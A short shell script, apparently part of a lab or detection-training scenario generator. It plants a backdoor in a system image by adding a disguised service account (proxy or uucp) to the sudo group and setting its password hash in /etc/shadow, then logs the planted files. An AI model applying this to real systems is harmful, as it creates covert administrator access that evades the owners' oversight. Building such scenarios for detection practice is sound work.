#!/bin/sh
# group-sudo: a member of sudo (group(5), sudoers(5))
. "${0%/*}/lib.sh"
only "plain disguised" "the account is the mechanism"
n=$(named proxy uucp)
sed -i "s|^sudo:.*:[^:]*$|&$n|" "$root/etc/group"
sed -i "s|^$n:[^:]*:|$n:$hash:|" "$root/etc/shadow"
planted /etc/group "$n"
planted /etc/passwd "$n"
planted /etc/shadow "$n"
